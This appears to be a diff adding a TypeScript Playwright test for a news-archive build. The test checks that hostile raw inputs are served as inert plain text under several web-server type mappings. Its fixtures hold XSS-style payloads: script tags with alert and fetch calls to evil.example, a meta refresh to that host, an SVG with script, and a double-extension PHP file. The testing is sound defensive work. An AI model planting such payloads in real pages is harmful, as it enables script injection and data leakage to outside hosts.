@@ -1,0 +1,103 @@
+/**
+ * Raw inputs are evidence to read and download, never documents that run on the archive's origin.
+ * Hostile inputs (a gzip-compressed HTML page with scripts, a meta refresh and requests to another
+ * host; an SVG and an XML file with scripts; a `.js` file; an `x.php.txt`) are published the way
+ * the build publishes them, then opened in Chromium from servers that map file names to types the
+ * way nginx, Apache (multiple extensions) and `npm run preview` do, with none of the recommended
+ * headers. No dialog opens, no request leaves the origin, the page never navigates. As a control,
+ * the same files under their own names do run on such a server, so the check can fail.
+ */
+import { createHash } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { gzipSync } from 'node:zlib';
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { copyRawInputs } from '../../src/site/raw-fs.ts';
+import { launchBrowser } from '../support/browser.ts';
+import { pageEffects } from '../support/page-effects.ts';
+import { type HostTypes, startStaticServer } from '../support/static-server.ts';
+
+const ATTACK = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://evil.example/">
+<title>Bridge closes</title></head><body><p>Words of the article.</p>
+<img src="http://evil.example/pixel.png"><script>alert('ran'); fetch('http://evil.example/f');</script>
+</body></html>`;
+
+const HOSTILE: Record<string, Uint8Array> = {
+  'page.html.gz': new Uint8Array(gzipSync(ATTACK)),
+  'page.html': new TextEncoder().encode(ATTACK),
+  'PAGE.HTM': new TextEncoder().encode(ATTACK),
+  'logo.svg': new TextEncoder().encode(
+    `<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg')</script><image href="http://evil.example/s.png"/></svg>`,
+  ),
+  'feed.xhtml': new TextEncoder().encode(
+    `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert('xhtml')</script></body></html>`,
+  ),
+  'evil.js': new TextEncoder().encode(`alert('js'); fetch('http://evil.example/js');`),
+  'x.php.txt': new TextEncoder().encode(`<?php echo 1; ?><script>alert('php')</script>`),
+};
+
+const HOSTS: readonly HostTypes[] = ['nginx', 'apache', 'preview'];
+
+let browser: Browser;
+let site: string;
+let control: string;
+
+beforeAll(async () => {
+  const seeds = mkdtempSync(join(tmpdir(), 'raw-seeds-'));
+  site = mkdtempSync(join(tmpdir(), 'raw-site-'));
+  control = mkdtempSync(join(tmpdir(), 'raw-control-'));
+  const records = Object.entries(HOSTILE).map(([file, bytes]) => {
+    writeFileSync(join(seeds, file), bytes);
+    writeFileSync(join(control, file), bytes);
+    return { source: { file, sha256: createHash('sha256').update(bytes).digest('hex') } };
+  });
+  mkdirSync(join(site, 'api'));
+  writeFileSync(join(site, 'api', 'articles.json'), JSON.stringify(records));
+  process.env['SEEDS_DIR'] = seeds;
+  await copyRawInputs(site);
+  delete process.env['SEEDS_DIR'];
+  browser = await launchBrowser();
+}, 60_000);
+
+afterAll(async () => {
+  await browser.close();
+});
+
+describe.each(HOSTS)('raw inputs served by a host that maps types like %s', (host) => {
+  it('are published as plain-text files with one extension, bytes unchanged', () => {
+    const names = readdirSync(join(site, 'raw'));
+    expect(names).toHaveLength(Object.keys(HOSTILE).length);
+    for (const name of names) expect(name).toMatch(/^[a-z0-9_-]+\.txt$/);
+  });
+
+  it('open without a dialog, a request to another origin, or a navigation', async () => {
+    const server = await startStaticServer(site, '/', host);
+    try {
+      for (const name of readdirSync(join(site, 'raw'))) {
+        const url = new URL(`raw/${name}`, server.url).href;
+        expect(await pageEffects(browser, url, server.origin), name).toEqual([]);
+      }
+    } finally {
+      await server.close();
+    }
+  }, 60_000);
+});
+
+describe('the control: hostile files under their own names', () => {
+  it('run on a host that maps types like Apache, so the check above can fail', async () => {
+    const server = await startStaticServer(control, '/', 'apache');
+    try {
+      const seen = await pageEffects(
+        browser,
+        new URL('page.html.gz', server.url).href,
+        server.origin,
+      );
+      expect(seen.some((s) => s.startsWith('dialog: ran'))).toBe(true);
+      expect(seen.some((s) => s.startsWith('request: http://evil.example/'))).toBe(true);
+    } finally {
+      await server.close();
+    }
+  }, 60_000);
+});
